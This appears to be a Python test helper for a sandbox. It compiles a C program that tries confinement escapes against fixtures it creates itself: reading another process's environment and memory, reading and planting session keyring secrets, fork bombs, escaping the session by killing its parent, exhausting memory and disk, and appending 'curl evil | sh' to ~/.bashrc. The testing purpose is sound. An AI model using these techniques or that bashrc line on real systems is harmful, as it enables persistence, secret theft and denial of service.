"""Hostile programs against the sandbox, shared by tests/toolchain/test_sandbox_levels.py and
benchmarks/attack_lsp.py.

One C program, ``attack WHAT ARGS``, tries one escape and says what happened: exit 0 and a line
starting "escaped" when it got through, exit 3 and "blocked: <reason>" when the sandbox stopped it.
:func:`attacks` are the escapes; :func:`bound_attacks` (issue #26) the session keyring and what a run
may take (memory across its processes, folders left behind, disk), each with the limits it runs under.
The "server" it attacks is a :class:`Victim`: a process of the program's own uid (what a server run
by an ordinary user is to the program) holding a secret in its environment, so that only the
sandbox, not a uid check, can stand between them.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

from cass_lsp.verify import diskquota, sandbox
from cass_lsp.verify.confine import NOBODY
from cass_lsp.verify.sandbox import Limits

GCC = "/usr/bin/gcc"
SECRET = "cass-attack-secret-7f3e"
ESCAPED, BLOCKED = 0, 3
SERVER_KEY = "cass-attack-server-key"
PLANTED_KEY = "cass-attack-planted"
_SYS_ADD_KEY, _SYS_KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine, (-1, -1))
_KEYCTL_REVOKE, _KEYCTL_SEARCH, _SESSION_KEYRING = 3, 10, -3

SOURCE = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11
#define SESSION_KEYRING -3

static int blocked(const char *what) {
    printf("blocked: %s: %s\n", what, strerror(errno));
    return 3;
}

static int escaped(const char *what) {
    printf("escaped: %s\n", what);
    return 0;
}

/* Take ``size`` bytes of disk for ``fd``: fallocate, or 1 MB writes where it is refused (what
   posix_fallocate falls back to). 0, or -1 with errno set. */
static int take_disk(int fd, off_t size) {
    static char block[1 << 20];
    if (fallocate(fd, 0, 0, size) == 0) return 0;
    if (errno != EOPNOTSUPP && errno != ENOSYS) return -1;
    memset(block, 7, sizeof block);
    for (off_t done = 0; done < size; done += sizeof block) {
        if (write(fd, block, sizeof block) != sizeof block) return -1;
    }
    return 0;
}

/* Read a whole file; escaped when it holds the secret. */
static int read_secret(const char *path) {
    char buf[1 << 16];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return blocked(path);
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) return blocked(path);
    buf[n] = 0;
    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = '\n';
    if (strstr(buf, "SECRET_MARK")) return escaped(path);
    errno = ENODATA;
    return blocked(path);
}

int main(int argc, char **argv) {
    const char *what = argv[1], *arg = argc > 2 ? argv[2] : "";
    char path[4096];
    if (!strcmp(what, "read")) return read_secret(arg);
    if (!strcmp(what, "append")) {
        int fd = open(arg, O_WRONLY | O_APPEND);
        if (fd < 0 || write(fd, "curl evil | sh\n", 15) != 15) return blocked(arg);
        return escaped(arg);
    }
    if (!strcmp(what, "environ")) {
        snprintf(path, sizeof path, "/proc/%s/environ", arg);
        return read_secret(path);
    }
    if (!strcmp(what, "mem")) {
        snprintf(path, sizeof path, "/proc/%s/mem", arg);
        if (open(path, O_RDWR) < 0) return blocked(path);
        return escaped(path);
    }
    if (!strcmp(what, "signal")) {
        if (kill(atoi(arg), SIGCONT) != 0) return blocked("kill");
        return escaped("kill");
    }
    if (!strcmp(what, "connect")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) return blocked("socket");
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(atoi(arg));
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return blocked("connect");
        return escaped("connect");
    }
    if (!strcmp(what, "fork")) {
        int n = 0;
        for (; n < 1000; n++) {
            pid_t pid = fork();
            if (pid == 0) { pause(); _exit(0); }
            if (pid < 0) break;
        }
        if (n < 1000) { printf("blocked: fork %d: %s\n", n, strerror(errno)); return 3; }
        return escaped("fork 1000");
    }
    if (!strcmp(what, "outlive")) {
        /* A child leaves the session, kills the launcher (or init) that would reap it, and keeps
           running; whether it outlived the run is the caller's to see. */
        pid_t parent = getppid();
        int report[2];
        if (pipe(report) != 0) return 2;
        if (fork() == 0) {
            setsid();
            int err = kill(parent, SIGKILL) == 0 ? 0 : errno;
            write(report[1], &err, sizeof err);
            close(0), close(1), close(2); /* as a daemon does: nothing ties it to the run's pipes */
            for (;;) pause();
        }
        int err;
        if (read(report[0], &err, sizeof err) != sizeof err) return 2;
        printf("kill(parent): %s\n", err == 0 ? "sent" : strerror(err));
        return err == 0 ? 0 : 3;
    }
    if (!strcmp(what, "keyring")) {
        /* Read the key the server keeps in its session keyring, and plant one of our own there
           (whether it arrived is the caller's to see). */
        char buf[256];
        long id = syscall(SYS_keyctl, KEYCTL_SEARCH, SESSION_KEYRING, "user", arg, 0);
        long n = id < 0 ? -1 : syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
        int read_errno = errno;
        long planted = syscall(SYS_add_key, "user", PLANTED_KEY, "planted", 7, SESSION_KEYRING);
        printf("add_key: %s\n", planted < 0 ? strerror(errno) : "added");
        if (n > 0) {
            buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0;
            if (strstr(buf, "SECRET_MARK")) return escaped("read the server's key");
        }
        errno = n < 0 ? read_errno : ENODATA;
        return blocked("the server's key");
    }
    if (!strcmp(what, "forkmem")) {
        /* 8 children of 200 MB each: every one is under a per-process bound of 256 MB. */
        enum { CHILDREN = 8 };
        size_t size = (size_t)200 << 20;
        int status[2];
        if (pipe(status) != 0) return 2;
        for (int i = 0; i < CHILDREN; i++) {
            pid_t pid = fork();
            if (pid == 0) {
                char *p = malloc(size);
                /* volatile stores on every page: an optimizer drops a memset of memory never read,
                   and the malloc with it, and then nothing was taken at all */
                if (p) for (size_t i = 0; i < size; i += 4096) ((volatile char *)p)[i] = 1;
                write(status[1], p ? "y" : "n", 1);
                if (!p) _exit(3);
                for (;;) pause();
            }
            if (pid < 0) return blocked("fork");
        }
        int held = 0;
        char c;
        for (int i = 0; i < CHILDREN && read(status[0], &c, 1) == 1; i++) held += c == 'y';
        if (held < CHILDREN) {
            printf("blocked: %d of %d children got 200 MB\n", held, CHILDREN);
            return 3;
        }
        return escaped("8 children x 200 MB held at once");
    }
    if (!strcmp(what, "litter")) {
        /* 3,000 nested folders in the work dir (a recursive cleanup gives up on them), then
           20 x 32 MB of disk, each file under a per-file bound of 64 MB, saying how far it got after
           each file (the run may be killed at any point: the last line is the peak it reached). */
        int top = open(".", O_RDONLY | O_DIRECTORY);
        int depth = 0;
        while (depth < 3000 && mkdir("d", 0700) == 0 && chdir("d") == 0) depth++;
        if (top < 0 || fchdir(top) != 0) return 2;
        long long total = 0;
        for (int i = 0; i < 20; i++) {
            snprintf(path, sizeof path, "fill%d", i);
            int fd = open(path, O_WRONLY | O_CREAT, 0600);
            if (fd < 0 || take_disk(fd, (off_t)32 << 20) != 0) {
                int refused = errno;
                printf("blocked: disk after %lld MB (%d nested folders): %s\n", total >> 20, depth, strerror(refused));
                fprintf(stderr, "%s\n", strerror(refused));  /* what the verdict reads (ENOSPC: the disk limit) */
                return 3;
            }
            close(fd);
            total += (long long)32 << 20;
            printf("reached %lld MB\n", total >> 20);
            fflush(stdout);
        }
        printf("escaped: %d nested folders, %lld MB of disk\n", depth, total >> 20);
        return 0;
    }
    fprintf(stderr, "unknown attack %s\n", what);
    return 2;
}
""".replace("SECRET_MARK", SECRET).replace("PLANTED_KEY", f'"{PLANTED_KEY}"')


def build(out: Path) -> Path:
    """Compile the attack program into ``out``; returns its path."""
    (out / "attack.c").write_text(SOURCE)
    exe = out / "attack"
    subprocess.run([GCC, "-O1", "-o", str(exe), str(out / "attack.c")], check=True, timeout=120)
    return exe


@dataclasses.dataclass
class Victim:
    """A process standing for the server: the program's uid, a secret in its environment."""

    process: subprocess.Popen[bytes]

    @property
    def pid(self) -> int:
        return self.process.pid


@contextlib.contextmanager
def victim() -> Iterator[Victim]:
    # A root server runs programs as nobody: the victim is then nobody too; otherwise our own uid.
    user = NOBODY if os.geteuid() == 0 else None
    process = subprocess.Popen(
        ["/bin/sleep", "600"], env={"CASS_API_KEY": SECRET}, user=user, group=user, extra_groups=[] if user else None
    )
    try:
        yield Victim(process)
    finally:
        process.kill()
        process.wait()


def _visible_folder() -> Path:
    beside_venv = Path(sys.prefix).resolve().parent
    hidden = [Path(os.path.realpath(folder)) for folder in ("/tmp", "/var/tmp", "/dev/shm")]
    if not any(beside_venv == h or h in beside_venv.parents for h in hidden):
        return beside_venv
    elsewhere = Path("/var/lib/cass-lsp-tests")
    elsewhere.mkdir(parents=True, exist_ok=True)
    return elsewhere


@contextlib.contextmanager
def fake_home() -> Iterator[Path]:
    """A $HOME with a secret and a .bashrc the program's uid could read and append to were it not
    confined. It lies where no other rule of the sandbox hides it: beside the venv, unless the
    checkout is below a folder every confined run hides (a clone in /tmp)."""
    home = Path(tempfile.mkdtemp(prefix="cass-home-", dir=_visible_folder()))
    try:
        home.chmod(0o755)
        (home / "secret").write_text(SECRET + "\n")
        (home / "secret").chmod(0o644)
        (home / ".bashrc").write_text("# bashrc\n")
        (home / ".bashrc").chmod(0o666)
        yield home
    finally:
        shutil.rmtree(home)


@contextlib.contextmanager
def loopback_port() -> Iterator[int]:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(16)
        yield server.getsockname()[1]


def leftovers(marker: str) -> list[str]:
    """Processes whose command line names ``marker`` (the run's work dir)."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = cmdline.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if marker in text:
            found.append(f"{cmdline.parent.name}: {text}")
    return found


def attacks(home: Path, victim_pid: int, port: int) -> list[tuple[str, list[str]]]:
    """Every attack with its arguments: (name, argv after the program)."""
    return [
        ("read a file in $HOME", ["read", str(home / "secret")]),
        ("append to ~/.bashrc", ["append", str(home / ".bashrc")]),
        ("read /proc/<server>/environ", ["environ", str(victim_pid)]),
        ("open /proc/<server>/mem read-write", ["mem", str(victim_pid)]),
        ("signal the server", ["signal", str(victim_pid)]),
        ("connect to a loopback port", ["connect", str(port)]),
        ("fork 1,000 times", ["fork"]),
        ("setsid, kill the parent, keep running", ["outlive"]),
    ]


ATTACK_LIMITS = Limits(timeout_seconds=5)


def bound_attacks() -> list[tuple[str, list[str], Limits]]:
    """The attacks on what a run may hold (issue #26), with the limits each runs under: (name,
    argv after the program, limits). The keyring attack needs :func:`server_key` around it."""
    return [
        ("read the server's session key, plant one", ["keyring", SERVER_KEY], ATTACK_LIMITS),
        # 1.6 GB at most when nothing stops it: a bounded cost for the machine running the check
        ("8 children x 200 MB under memory_mb=256", ["forkmem"], Limits(timeout_seconds=5, memory_mb=256)),
        # time enough to reach the disk limit where space is taken by writes (fallocate refused)
        ("3,000 nested folders + 640 MB of disk", ["litter"], Limits(timeout_seconds=60)),
    ]


def disk_peak_mb(outcome: sandbox.RunOutcome) -> int:
    """The most disk the litter attack held: the larger of the sandbox's count (landlock, none) and
    the program's own last report ("reached N MB", or "after N MB" when a write was refused)."""
    reported = [int(mb) for mb in re.findall(rb"(?:reached|after) (\d+) MB", outcome.stdout)]
    return max([*reported, (outcome.disk_peak_bytes or 0) >> 20])


def disk_held(outcome: sandbox.RunOutcome, left: list[str]) -> bool:
    """Whether the litter attack was blocked: stopped by the disk limit, within the margin
    docs/THREAT_MODEL.md states (:func:`.diskquota.margin_mb`), and nothing left behind."""
    limits = outcome.limits
    bound = limits.disk_mb + diskquota.margin_mb(limits.disk_mb, limits.file_size_mb)
    return outcome.limit == "disk" and disk_peak_mb(outcome) <= bound and not left


def _keyctl(*args: object) -> int:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return int(libc.syscall(*(ctypes.c_long(a) if isinstance(a, int) else a for a in args)))


@contextlib.contextmanager
def server_key() -> Iterator[bool]:
    """A key holding the secret in this process's session keyring (what a server's session holds:
    an ssh agent's, a Kerberos ticket) for the time of the block; yields whether this system lets
    a process have one (a container's seccomp profile may refuse add_key)."""
    key = _keyctl(_SYS_ADD_KEY, b"user", SERVER_KEY.encode(), SECRET.encode(), len(SECRET), _SESSION_KEYRING)
    try:
        yield key >= 0
    finally:
        if key >= 0:
            _keyctl(_SYS_KEYCTL, _KEYCTL_REVOKE, key)


def planted_key() -> bool:
    """Whether a run planted its key in this process's session keyring (revoked if so)."""
    key = _keyctl(_SYS_KEYCTL, _KEYCTL_SEARCH, _SESSION_KEYRING, b"user", PLANTED_KEY.encode(), 0)
    if key >= 0:
        _keyctl(_SYS_KEYCTL, _KEYCTL_REVOKE, key)
    return key >= 0


def run_attack(
    exe: Path, args: list[str], *, allow_unconfined: bool = False, limits: Limits = ATTACK_LIMITS
) -> tuple[sandbox.RunOutcome | sandbox.SandboxError, list[str]]:
    """Run one attack in a fresh work dir at the current level; returns the outcome (or the
    sandbox's failure: an attack may take the launcher down) and what outlived the run: processes
    (each killed afterwards) and the work dir itself when its cleanup left it (removed afterwards)."""
    workdir = sandbox.fresh_workdir("cass-attack-")
    work = workdir.__enter__()
    try:
        program = work / "attack"
        program.write_bytes(exe.read_bytes())
        program.chmod(stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)
        outcome: sandbox.RunOutcome | sandbox.SandboxError
        try:
            outcome = sandbox.run([program, *args], workdir=work, limits=limits, allow_unconfined=allow_unconfined)
        except sandbox.SandboxError as error:
            outcome = error
        left = _settle(str(work))
    finally:
        # The sandbox's cleanup is under test too: when it gives up (a recursion 3,000 folders
        # deep), what it left is counted below instead.
        with contextlib.suppress(OSError, RecursionError):
            workdir.__exit__(None, None, None)
    if os.path.lexists(work):
        left.append(f"folder {work}")
        # rm removes any depth; the sandbox's own cleanup is what is under test
        subprocess.run(["/bin/rm", "-rf", "--", str(work)], check=False, timeout=120)
    return outcome, left


def _settle(marker: str) -> list[str]:
    """What is still running a second after the run (the kernel may take a moment to tear a
    namespace down); each such process is then killed so that one escape does not leak into the
    next run."""
    deadline = time.monotonic() + 1.0
    while (left := leftovers(marker)) and time.monotonic() < deadline:
        time.sleep(0.05)
    for line in left:
        with contextlib.suppress(ProcessLookupError, ValueError):
            os.kill(int(line.split(":", 1)[0]), 9)
    return left
